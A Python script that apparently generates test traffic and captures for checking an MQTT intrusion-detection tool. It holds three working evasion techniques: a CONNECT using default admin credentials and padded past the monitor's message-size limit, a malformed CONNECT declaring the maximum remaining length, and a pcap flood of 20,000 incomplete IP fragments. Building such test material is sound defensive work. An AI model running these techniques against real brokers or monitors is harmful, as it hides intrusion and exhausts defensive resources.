#!/usr/bin/env python3
"""Clients for gen_evasion.sh: an attacker shaping real MQTT traffic.

Usage:
  evasion_clients.py padded HOST PORT   paho-mqtt v5: CONNECT as admin/admin
                                        padded with ~1.1 MiB of user
                                        properties, then a PUBLISH of
                                        patient JSON (QoS 1)
  evasion_clients.py huge HOST PORT     python socket: a CONNECT whose fixed
                                        header declares 268,435,455 bytes,
                                        then a few KiB of it; waits for the
                                        broker to close the connection
  evasion_clients.py flood IN OUT       scapy: 20,000 never-completed IPv4
                                        first fragments (GENERATED, not
                                        traffic) written before the real
                                        fragmented exchange of capture IN

Each command exits non-zero when the peer does not behave as the README
says (CONNACK 0 and PUBACK for `padded`, a closed connection for `huge`).
"""

import os
import socket
import sys
import threading
import time

sys.path.insert(0, os.path.dirname(__file__))
import fakeids  # noqa: E402
import mqtt_clients  # noqa: E402

# User properties of the padded CONNECT: 1140 x (key "pad-NNNN", value of
# 1000 bytes) = 1,155,960 bytes of properties, over mosquitto's nothing and
# over wardwatch's max_msg_len.
PAD_PROPS = 1140
PAD_VALUE = 1000


def padded(host, port):
    import paho.mqtt.client as mqtt
    from paho.mqtt.packettypes import PacketTypes
    from paho.mqtt.properties import Properties

    props = Properties(PacketTypes.CONNECT)
    props.UserProperty = [
        ("pad-%04d" % i, ("%04d" % i) * (PAD_VALUE // 4)) for i in range(PAD_PROPS)
    ]
    c = mqtt.Client(mqtt.CallbackAPIVersion.VERSION2, client_id="MON-W3-BED12",
                    protocol=mqtt.MQTTv5)
    c.username_pw_set("admin", "admin")
    got = {}
    connected = threading.Event()
    acked = threading.Event()

    def on_connect(cl, ud, flags, rc, p=None):
        got["rc"] = rc
        connected.set()

    c.on_connect = on_connect
    c.on_publish = lambda cl, ud, mid, rc=None, p=None: acked.set()
    c.connect(host, port, keepalive=30, properties=props)
    c.loop_start()
    if not connected.wait(20):
        raise SystemExit("padded: no CONNACK")
    if got["rc"] != 0:
        raise SystemExit("padded: CONNACK %s, wanted 0" % got["rc"])
    body = mqtt_clients.phi_json(fakeids.JANE, 72, 98, 1)
    c.publish("ward3/bed12/patient", body, qos=1)
    if not acked.wait(10):
        raise SystemExit("padded: no PUBACK")
    c.disconnect()
    c.loop_stop()
    print("padded: CONNACK 0, PUBACK received", file=sys.stderr)


def varint(n):
    out = bytearray()
    while True:
        b = n % 128
        n //= 128
        out.append(b | (0x80 if n else 0))
        if not n:
            return bytes(out)


def huge(host, port):
    # MQTT 3.1.1 CONNECT (§3.1): fixed header 0x10, remaining length
    # 268,435,455 (0xff 0xff 0xff 0x7f, the largest the encoding allows);
    # variable header: protocol name "MQTT", level 4, flags 0x02 (clean
    # session), keepalive 60; payload: client id, then bytes that never
    # reach the declared length.
    assert varint(268_435_455) == b"\xff\xff\xff\x7f"
    client_id = b"huge-declared-01"
    head = b"\x10" + varint(268_435_455)
    var = b"\x00\x04MQTT\x04\x02\x00\x3c"
    payload = len(client_id).to_bytes(2, "big") + client_id + b"\x00" * 4096
    s = socket.create_connection((host, port), timeout=10)
    s.sendall(head + var + payload)
    # mosquitto either closes at once (max_packet_size) or waits for the
    # rest; say which.
    s.settimeout(5)
    try:
        data = s.recv(100)
        closed = data == b""
    except socket.timeout:
        closed = False
    except ConnectionResetError:
        closed = True
    s.close()
    if not closed:
        raise SystemExit("huge: the broker kept the connection open")
    print("huge: the broker closed the connection", file=sys.stderr)


def flood(src, out):
    # GENERATED packets, not traffic: 20,000 IPv4 first fragments (MF set,
    # offset 0) of UDP datagrams whose other fragments never come, from the
    # real exchange's client to its server (same address pair, so the same
    # worker and the same reassembly table), IDs that the real exchange does
    # not use (from 0x8000 up: tshark 4.0 put a flood fragment with ID
    # 0x2b61 into the real datagram 0x2b71 when the IDs were interleaved),
    # 1 ms apart, ending 1 ms before its first packet.
    from scapy.all import IP, UDP, Ether, PcapReader, PcapWriter, Raw

    real = list(PcapReader(src))
    first = next(p for p in real if IP in p)
    ip = first[IP]
    used = {p[IP].id for p in real if IP in p}
    t0 = float(real[0].time) - 20_000 * 0.001 - 0.001
    w = PcapWriter(out, linktype=1, sync=False)
    n = 0
    ident = 0x7FFF
    while n < 20_000:
        ident += 1
        if ident in used:
            continue
        frag = (
            Ether(src=first[Ether].src, dst=first[Ether].dst)
            / IP(src=ip.src, dst=ip.dst, id=ident, flags="MF", frag=0, ttl=64)
            / UDP(sport=40000 + n % 20000, dport=9999, len=1008)
            / Raw(b"\x00" * 16)
        )
        frag.time = t0 + n * 0.001
        w.write(frag)
        n += 1
    for p in real:
        w.write(p)
    w.close()
    print("flood: 20000 fragments + %d real packets -> %s" % (len(real), out), file=sys.stderr)


if __name__ == "__main__":
    cmd = sys.argv[1] if len(sys.argv) > 1 else ""
    if cmd == "padded":
        padded(sys.argv[2], int(sys.argv[3]))
    elif cmd == "huge":
        huge(sys.argv[2], int(sys.argv[3]))
    elif cmd == "flood":
        flood(sys.argv[2], sys.argv[3])
    else:
        raise SystemExit(__doc__)
